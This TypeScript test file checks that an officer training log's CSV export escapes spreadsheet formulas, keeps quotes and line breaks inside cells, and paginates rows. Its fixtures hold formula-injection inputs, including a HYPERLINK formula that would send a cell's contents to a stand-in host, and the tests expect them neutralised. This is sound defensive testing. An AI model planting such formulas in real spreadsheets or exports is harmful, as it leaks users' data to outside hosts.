// The CSV of the log: whatever people typed comes back from it, no spreadsheet runs it, and numbers stay numbers.
import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvText } from '../../src/export/csv.ts'
import { logPages } from '../../src/export/log-rows.ts'
import { recordCopy } from '../../src/flow/record-copy.ts'
import { plainDate } from '../../src/law/calendar.ts'
import { openTestApp } from '../support/an-app.ts'
import { pdfOf } from '../support/copy-files.ts'
import { csvRows, jsonRows, logText } from '../support/exported-log.ts'
import { certificatesOf, rosterOf } from '../support/import-rows.ts'

const now = '2026-11-23 09:00'

/** Names as somebody may type them, and what a spreadsheet may be handed of them. */
const names: readonly (readonly [typed: string, inCsv: string])[] = [
  ['=HYPERLINK("http://x.example?"&A1,"Click")', `'=HYPERLINK("http://x.example?"&A1,"Click")`],
  ['+1 507 555 0100', "'+1 507 555 0100"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠x', "'＠x"],
  ["'=1+1", "'=1+1"],
  ['Ann "Ace" O’Neil, Jr.', 'Ann "Ace" O’Neil, Jr.'],
  ['Pa Houa Vaj; Nuj Txeeg', 'Pa Houa Vaj; Nuj Txeeg'],
  ['Cabdiraxmaan Xuseen', 'Cabdiraxmaan Xuseen'],
  ['Łukasz Müller-Ñandú', 'Łukasz Müller-Ñandú'],
  ['شيماء حسن', 'شيماء حسن'],
  ['דנה לוי', 'דנה לוי'],
  ['Officer 👮🏽‍♀️', 'Officer 👮🏽‍♀️'],
]

describe('an officer named', () => {
  test.each(names)('%s comes back as typed, and is no formula', async (typed, inCsv) => {
    const app = openTestApp({ now })
    await rosterOf(app, { officer: typed, post_license: '1', assumed_on: '2026-08-31', school: typed })
    const [row] = await csvRows(app)
    expect([row?.officer, row?.school]).toEqual([inCsv, inCsv])
    expect((await jsonRows(app))[0]).toMatchObject({ officer: typed, school: typed })
  })
})

test('every text comes back from a reader of RFC 4180 as it was, but for an apostrophe where it would run', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 5 }), (texts) => {
      const read = parse(`${texts.map(csvText).join(',')}\r\n`, {
        relax_column_count: true,
        record_delimiter: '\r\n',
      })
      const runs = (text: string) => /^[=+\-@\t\r＝＋－＠]/.test(text)
      expect(read).toEqual([texts.map((text) => (runs(text) ? `'${text}` : text))])
    }),
  )
})

test('line breaks, tabs and quotes inside a cell stay inside it', () => {
  expect(csvText('one\ntwo')).toBe('"one\ntwo"')
  expect(csvText('one\r\n"two"')).toBe('"one\r\n""two"""')
  expect(csvText('\tone')).toBe("'\tone")
  expect(csvText('\rone')).toBe(`"'\rone"`)
  expect(csvText('')).toBe('')
})

test('a negative number is a number: no apostrophe before it', async () => {
  const app = openTestApp({ now })
  await rosterOf(app, { officer: 'Ada Ash', post_license: '1', assumed_on: '2026-08-31' })
  await certificatesOf(app, { post_license: '1', kind: 'mandated', completed_on: '2026-08-01' })
  expect((await csvRows(app))[0]?.days_early_or_late).toBe('-29')
})

test('CRLF ends every line, the header row among them, and a byte order mark comes only where it is asked for', async () => {
  const app = openTestApp({ now })
  await rosterOf(app, { officer: 'Ada Ash', post_license: '1', assumed_on: '2026-08-31' })
  const text = await logText(app)
  expect(text.split('\r\n')).toHaveLength(3)
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  expect(text.startsWith('agency,')).toBe(true)
  expect(await logText(app, { bom: true })).toBe(`\ufeff${text}`)
})

test('a log without rows is a header row, and no line of JSON', async () => {
  const app = openTestApp({ now })
  await rosterOf(app, { officer: 'Ada Ash', post_license: '1', assumed_on: '2026-08-31' })
  expect((await logText(app, { until: '2026-01-01' })).split('\r\n')).toHaveLength(2)
  expect(await logText(app, { until: '2026-01-01', format: 'jsonl' })).toBe('')
})

test('a copy that is a file shows its name as it was handed in, and the SHA-256 of its bytes', async () => {
  const app = openTestApp({ now })
  await rosterOf(app, {
    officer: 'Ada Ash',
    post_license: '1',
    assumed_on: '2026-08-31',
    mandated_completed_on: '2026-08-01',
  })
  const bytes = pdfOf()
  const copy = { name: '=ash.pdf', bytes }
  await recordCopy(app, {
    officer: '1',
    agency: 'Ely Police Department',
    completed_on: plainDate('2026-08-01'),
    copy,
  })
  expect((await csvRows(app))[0]).toMatchObject({
    copy_held: 'file',
    copy_file: "'=ash.pdf",
    copy_sha256: createHash('sha256').update(bytes).digest('hex'),
  })
})

test('a thousand officers of one agency come some hundred at a time, each once and in order', async () => {
  const app = openTestApp({ now })
  const numbers = Array.from({ length: 450 }, (_, n) => String(1000 + n))
  await rosterOf(
    app,
    ...numbers.map((n) => ({ officer: `Officer ${n}`, post_license: n, assumed_on: '2026-08-31' })),
  )
  const pages: number[] = []
  const seen: string[] = []
  for await (const page of logPages(app.db, { filter: {}, asOf: plainDate('2026-11-23'), known: null })) {
    pages.push(page.length)
    seen.push(...page.map(({ post_license }) => post_license))
  }
  expect(Math.max(...pages)).toBeLessThanOrEqual(200)
  expect(seen).toEqual(numbers)
})
